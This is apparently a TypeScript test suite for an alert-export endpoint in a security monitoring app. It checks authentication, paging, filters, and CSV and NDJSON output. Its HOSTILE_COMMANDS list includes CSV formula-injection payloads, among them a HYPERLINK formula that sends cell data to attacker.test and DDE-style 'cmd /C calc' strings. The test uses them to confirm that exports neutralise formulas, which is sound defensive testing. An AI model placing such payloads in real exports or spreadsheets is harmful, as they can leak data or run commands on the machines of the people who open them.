import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { issueApiToken } from "@/lib/auth/api-tokens";
import { apiRequest, signedInUser } from "@/lib/auth/test-helpers";
import { prisma } from "@/lib/db/client";
import { createTestDatabase } from "@/lib/db/test-database";
import { ALERT_EXPORT_COLUMNS } from "@/lib/export/alerts";
import { GET as list } from "../route";
import { GET as exportAlerts } from "./route";

const database = createTestDatabase();
process.env.DATABASE_URL = database.url;

/** More than two export pages (500 rows each) and several list pages. */
const ALERT_COUNT = 1234;
const SEVERITIES = [
  ["low", 1],
  ["medium", 2],
  ["high", 3],
  ["critical", 4],
] as const;
const STATUSES = ["open", "acknowledged", "closed"] as const;

/** Command lines a CSV writer gets wrong: separators, quotes, line breaks, formulas, non-ASCII. */
const HOSTILE_COMMANDS = [
  'sh -c "echo a,b"',
  "printf 'line one\nline two'",
  "echo windows\r\nline",
  '=HYPERLINK("http://attacker.test/?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  'say ""twice"" and "once"',
  "ünïcødé ✓ 🐚",
  "",
] as const;

let viewer: { cookie: string };
let viewerToken: string;
let ingestToken: string;
let alertTimes: Map<string, number>;

beforeAll(async () => {
  viewer = await signedInUser("export-viewer", "viewer");
  viewerToken = (await issueApiToken({ name: "v", role: "viewer", expiresAt: null, createdById: null })).token;
  ingestToken = (await issueApiToken({ name: "i", role: "ingest", expiresAt: null, createdById: null })).token;
  for (const id of ["r-net", "r-shell"]) {
    await prisma().rule.create({
      data: { id, name: `Rule ${id}`, description: "t", query: "q", severity: "high", riskScore: 50 },
    });
  }
  const rows = Array.from({ length: ALERT_COUNT }, (_, index) => {
    const [severity, rank] = SEVERITIES[index % 4] as (typeof SEVERITIES)[number];
    return {
      ruleId: index % 3 === 0 ? "r-shell" : "r-net",
      ruleName: index % 3 === 0 ? "Rule r-shell" : "Rule r-net",
      severity,
      severityRank: rank,
      riskScore: index % 100,
      status: STATUSES[index % 3] as string,
      dedupKey: `export-${index}`,
      // Pairs share a timestamp, so the order relies on the id tiebreak as well.
      timestamp: new Date(Date.UTC(2026, 10, 1) + Math.floor(index / 2) * 60_000),
      containerId: `c-${index % 7}`,
      containerName: index % 50 === 0 ? 'payments, "eu"' : `web-${index % 7}`,
      hostName: "node-a",
      processName: "sh",
      commandLine: HOSTILE_COMMANDS[index % HOSTILE_COMMANDS.length] || null,
      userName: "root",
    };
  });
  for (let start = 0; start < rows.length; start += 200) {
    await prisma().alert.createMany({ data: rows.slice(start, start + 200) });
  }
  const stored = await prisma().alert.findMany({ select: { id: true, timestamp: true } });
  alertTimes = new Map(stored.map((alert) => [alert.id, alert.timestamp.getTime()]));
});
afterAll(async () => {
  await prisma().$disconnect();
  database.cleanup();
});

const download = (query: string, auth: { cookie?: string; token?: string } = { cookie: viewer.cookie }) =>
  exportAlerts(apiRequest(`/api/alerts/export${query}`, { method: "GET", ...auth }));

type CsvRecord = Record<string, string>;

async function csvRecords(response: Response): Promise<{ header: string[]; records: CsvRecord[] }> {
  const text = await response.text();
  const rows: string[][] = parse(text, { record_delimiter: "\r\n" });
  const [header = [], ...data] = rows;
  return { header, records: data.map((row) => Object.fromEntries(header.map((name, i) => [name, row[i] ?? ""]))) };
}

/** Every alert GET /api/alerts lists for a query, following nextCursor to the end. */
async function listedIds(query: string): Promise<string[]> {
  const ids: string[] = [];
  let cursor: string | null = null;
  do {
    const page = `/api/alerts?${query}&limit=500${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ""}`;
    const body = (await (await list(apiRequest(page, { method: "GET", cookie: viewer.cookie }))).json()) as {
      items: { id: string }[];
      nextCursor: string | null;
    };
    ids.push(...body.items.map((item) => item.id));
    cursor = body.nextCursor;
  } while (cursor);
  return ids;
}

describe("GET /api/alerts/export", () => {
  it("answers 401 without credentials and 403 for an ingest token, like the list", async () => {
    expect((await download("", {})).status).toBe(401);
    const refused = await download("", { token: ingestToken });
    expect(refused.status).toBe(403);
    expect((await refused.json()).error.code).toBe("forbidden");
  });

  it("exports every alert once as CSV for a viewer, newest first, as an attachment", async () => {
    const response = await download("?format=csv");
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8; header=present");
    expect(response.headers.get("content-disposition")).toMatch(
      /^attachment; filename="keelwatch-alerts-\d{8}T\d{6}Z\.csv"$/,
    );
    expect(response.headers.get("cache-control")).toBe("no-store");
    const { header, records } = await csvRecords(response);
    expect(header).toEqual(ALERT_EXPORT_COLUMNS.map((column) => column.header));
    const ids = records.map((record) => record.id);
    expect(ids).toHaveLength(ALERT_COUNT);
    expect(new Set(ids)).toEqual(new Set(alertTimes.keys()));
    const times = ids.map((id) => alertTimes.get(id ?? "") ?? Number.NaN);
    expect(times).toEqual([...times].sort((a, b) => b - a));
    expect(records.map((record) => record.timestamp)).toEqual(times.map((time) => new Date(time).toISOString()));
  });

  it("sends the header, then one page of 500 alerts per read, and stops when the reader goes away", async () => {
    const response = await download("?format=csv");
    const reader = (response.body as ReadableStream<Uint8Array>).getReader();
    const decoder = new TextDecoder();
    const chunk = async () => decoder.decode((await reader.read()).value);
    expect(await chunk()).toBe(`${ALERT_EXPORT_COLUMNS.map((column) => column.header).join(",")}\r\n`);
    expect(parse(await chunk(), { record_delimiter: "\r\n" })).toHaveLength(500);
    expect(parse(await chunk(), { record_delimiter: "\r\n" })).toHaveLength(500);
    await reader.cancel();
    expect((await reader.read()).done).toBe(true);
  });

  it("writes separators, quotes, line breaks and non-ASCII so that they read back unchanged, and defuses formulas", async () => {
    const { records } = await csvRecords(await download("?format=csv"));
    const commands = new Set(records.map((record) => record.commandLine));
    for (const command of HOSTILE_COMMANDS) {
      const formula = /^[=+\-@\t\r]/.test(command);
      expect(commands.has(formula ? `'${command}` : command)).toBe(true);
      if (formula) expect(commands.has(command)).toBe(false);
    }
    expect(records.filter((record) => record.containerName === 'payments, "eu"')).toHaveLength(
      Math.ceil(ALERT_COUNT / 50),
    );
    // Nothing read back starts a formula.
    for (const record of records) {
      for (const value of Object.values(record)) expect(value).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it("applies the list's filters and sort: the same alerts, in the same order, as paging GET /api/alerts", async () => {
    const filters = [
      "severity=high,critical&status=open",
      "rule=r-shell&sort=oldest",
      "q=payments&sort=risk",
      "status=closed&sort=severity&from=2026-11-01T03:00:00Z&to=2026-11-01T05:00:00Z",
      "container=c-3&host=node-a",
    ];
    for (const filter of filters) {
      const expected = await listedIds(filter);
      expect(expected.length).toBeGreaterThan(0);
      const { records } = await csvRecords(await download(`?format=csv&${filter}`));
      expect(
        records.map((record) => record.id),
        filter,
      ).toEqual(expected);
    }
    expect(await listedIds("severity=high,critical&status=open")).toHaveLength(
      await prisma().alert.count({ where: { severityRank: { gte: 3 }, status: "open" } }),
    );
  });

  it("exports NDJSON for a token: one alert per line, shaped like the list's items", async () => {
    const response = await download("?format=ndjson&severity=low&sort=oldest", { token: viewerToken });
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("application/x-ndjson; charset=utf-8");
    expect(response.headers.get("content-disposition")).toMatch(/filename="keelwatch-alerts-\d{8}T\d{6}Z\.ndjson"/);
    const text = await response.text();
    expect(text.endsWith("\n")).toBe(true);
    const lines = text.slice(0, -1).split("\n");
    const alerts = lines.map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(alerts.map((alert) => alert.id)).toEqual(await listedIds("severity=low&sort=oldest"));
    expect(alerts).toHaveLength(Math.ceil(ALERT_COUNT / 4));
    const first = await (
      await list(apiRequest("/api/alerts?severity=low&sort=oldest&limit=1", { method: "GET", cookie: viewer.cookie }))
    ).json();
    expect(alerts[0]).toEqual(first.items[0]);
    // NDJSON is data for programs, not a spreadsheet: values are kept exactly, formulas included.
    const commands = new Set(alerts.map((alert) => alert.commandLine));
    expect(commands).toEqual(new Set(['sh -c "echo a,b"', "+cmd|' /C calc'!A0", "\r=1+1"]));
  });

  it("answers a CSV header alone when nothing matches", async () => {
    const response = await download("?q=no-such-container-anywhere");
    expect(response.status).toBe(200);
    expect(await response.text()).toBe(`${ALERT_EXPORT_COLUMNS.map((column) => column.header).join(",")}\r\n`);
  });

  it("refuses a bad parameter with 400, naming it, before streaming anything", async () => {
    const badFormat = await download("?format=xlsx");
    expect(badFormat.status).toBe(400);
    const body = await badFormat.json();
    expect(body.error.code).toBe("invalid_request");
    expect(body.error.details).toEqual([expect.objectContaining({ field: "format" })]);
    const badTime = await download("?from=yesterday");
    expect(badTime.status).toBe(400);
    expect((await badTime.json()).error.message).toContain("from");
  });
});
